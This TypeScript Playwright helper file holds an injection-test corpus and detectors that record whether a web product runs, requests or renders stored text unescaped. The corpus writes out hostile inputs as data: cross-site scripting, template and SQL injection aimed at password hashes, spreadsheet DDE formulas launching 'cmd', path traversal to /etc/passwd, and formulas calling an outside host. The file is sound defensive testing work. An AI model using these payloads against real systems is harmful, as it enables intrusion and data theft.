import type { BrowserContext, Page } from "@playwright/test";

/**
 * Texts that would run, send a request or become an element in a page that does not escape them: `ran()` is called,
 * corpus.invalid is requested, or an element has `data-corpus`. Every ten texts contain each kind; none is longer than 50
 * characters.
 */
export const corpus: readonly string[] = [
  "<img src=x onerror=ran() data-corpus>",
  '"><svg data-corpus onload=ran()>',
  "javascript:ran()//",
  "<script data-corpus>ran()</script>",
  "{{constructor.constructor('ran()')()}}",
  "';ran();//",
  '=HYPERLINK("https://corpus.invalid/","x")',
  "＜script＞ran()＜/script＞",
  "<b data-corpus>bold</b>&lt;i&gt;&#60;u&#62;",
  "[x](javascript:ran())",

  "<iframe data-corpus src=javascript:ran()>",
  "' onmouseover='ran()' data-corpus='",
  "data:text/html,<script>ran()</script>",
  "</script><script data-corpus>ran()</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to look like one
  "${ran()}",
  "\\u003cimg src=x onerror=ran()\\u003e",
  "+cmd|' /C calc'!A0",
  "<ımg src=x onerror=ran() data-corpus>",
  "</title><h1 data-corpus>title</h1>",
  "![x](https://corpus.invalid/pixel.png)",

  "<video data-corpus><source onerror=ran()></video>",
  '" autofocus onfocus=ran() data-corpus x="',
  "JaVaScRiPt:ran()",
  "--><script data-corpus>ran()</script>",
  "<%= ran() %>",
  '\\";ran();//',
  "-2+3+ran()",
  "<scr\u200bipt>ran()</scr\u200bipt>",
  "</textarea><img data-corpus src=x onerror=ran()>",
  "<https://corpus.invalid/><img data-corpus>",

  "<audio data-corpus src=x onerror=ran()>",
  "' autofocus onfocus='ran()' data-corpus='",
  "vbscript:ran()",
  "]]><script data-corpus>ran()</script>",
  "#{ran()}",
  "'-ran()-'",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\u202e<img src=x onerror=ran() data-corpus>",
  "</style><script data-corpus>ran()</script>",
  "[url=javascript:ran()]x[/url]",

  "<object data-corpus data=javascript:ran()>",
  "` onmouseover=ran() data-corpus",
  "//corpus.invalid/x.js",
  "<svg data-corpus><script>ran()</script></svg>",
  "{{7*7}}{{ran()}}",
  '"+ran()+"',
  '=IMPORTXML("https://corpus.invalid/","//a")',
  "<img src=x o\ufffdnerror=ran() data-corpus>",
  "</option></select><b data-corpus>x</b>",
  "Bcc: all@corpus.invalid",

  "<embed data-corpus src=javascript:ran()>",
  '"><script data-corpus src=//corpus.invalid>',
  'https://corpus.invalid/"onclick="ran()',
  "<svg data-corpus><animate onbegin=ran() dur=1s>",
  "{%raw%}{{ran()}}{%endraw%}",
  "\\');ran();//",
  "=cmd|'/C calc'!'A1'",
  "＂＞<img data-corpus src=x onerror=ran()>",
  "<!--<img data-corpus src=x onerror=ran()>-->",
  "<a data-corpus href=javascript:ran()>x</a>",

  "<details data-corpus open ontoggle=ran()>",
  "x onerror=ran() data-corpus",
  "data:image/svg+xml,<svg onload=ran()>",
  "<math data-corpus><mi xlink:href=javascript:ran()>",
  "*{background:url(//corpus.invalid)}",
  "</script>'\";ran();//",
  '=WEBSERVICE("https://corpus.invalid/")',
  "<\u0130FRAME data-corpus src=javascript:ran()>",
  "<template data-corpus><img onerror=ran()>",
  "<base data-corpus href=https://corpus.invalid/>",

  "<body data-corpus onload=ran()>",
  '" style="background:url(//corpus.invalid)"',
  "?redirect=javascript:ran()",
  "<svg data-corpus><use href=data:,ran()></svg>",
  "<x-corpus data-corpus v-html='ran()'></x-corpus>",
  "__proto__[ran]",
  '=DDE("cmd","/C calc","x")',
  "&#x3c;img src=x onerror=ran()&#x3e;",
  "<meta data-corpus http-equiv=refresh content=0>",
  "<link data-corpus rel=icon href=//corpus.invalid>",

  "<form data-corpus action=javascript:ran()><input>",
  '"onfocus=ran() tabindex=1 autofocus data-corpus="',
  "../../../../etc/passwd",
  "<svg data-corpus><foreignObject><p>x</p></svg>",
  "<div data-corpus ng-app>{{ran()}}</div>",
  "constructor",
  "%3Cscript%3Eran()%3C/script%3E",
  "%253Cimg src=x onerror=ran()%253E",
  '<noscript><p title="</noscript><img data-corpus>">',
  "<style data-corpus>@import '//corpus.invalid'",

  "<marquee data-corpus onstart=ran()>x</marquee>",
  '"accesskey=x onclick=ran() data-corpus="',
  "feed:javascript:ran()",
  "<svg data-corpus><a href=javascript:ran()>x</a>",
  "<slot data-corpus name=x onslotchange=ran()>",
  "');ran();('",
  "'=1+1",
  "🏴<img src=x onerror=ran() data-corpus>🏴",
  "<<script data-corpus>ran();//<</script>",
  "' UNION SELECT password_hash FROM users --",
];

/**
 * Records all effects of the texts of `corpus.ts` in a context's pages: a call, a dialog, a request to an origin other than
 * `url`, a violation of the content security policy. Returns the growing list.
 */
export async function watchForInjections(context: BrowserContext, url: string): Promise<string[]> {
  const { origin } = new URL(url);
  const seen: string[] = [];
  await context.exposeFunction("ran", (effect = "a call") => void seen.push(`ran: ${effect}`));
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
      (window as unknown as { ran: (what: string) => void }).ran(`${violatedDirective} of ${blockedURI}`);
    });
  });
  context.on("dialog", (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on("request", (request) => {
    const { protocol, origin: requestOrigin } = new URL(request.url());
    if (/^(https?|wss?):$/.test(protocol) && requestOrigin !== origin) seen.push(`request: ${request.url()}`);
  });
  return seen;
}

/**
 * Returns elements that no page of the product creates: those from a stored text, and those that could run by themselves.
 */
export function injectedElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const selector = "[data-corpus], x-corpus, iframe, object, embed, base, script:not([src])";
    const found = [...document.querySelectorAll(selector)];
    const urlAttributes = /^(href|xlink:href|src|srcdoc|action|formaction|data|poster)$/;
    const isExecutable = ({ name, value }: Attr) =>
      name.startsWith("on") || (urlAttributes.test(name) && /^\s*(javascript|vbscript|data:text|\/\/)/i.test(value));
    for (const element of document.querySelectorAll("*")) {
      if ([...element.attributes].some(isExecutable)) found.push(element);
    }
    return found.map((element) => element.outerHTML.slice(0, 120));
  });
}

/** Returns all text of the page, including fields and titles. */
export function shownText(page: Page): Promise<string> {
  return page.evaluate(() => {
    const fields = [...document.querySelectorAll<HTMLInputElement>("input, textarea")].map(({ value }) => value);
    const titles = [...document.querySelectorAll("[title]")].map((element) => element.getAttribute("title"));
    return [document.title, document.body.textContent, ...fields, ...titles].join("\n");
  });
}
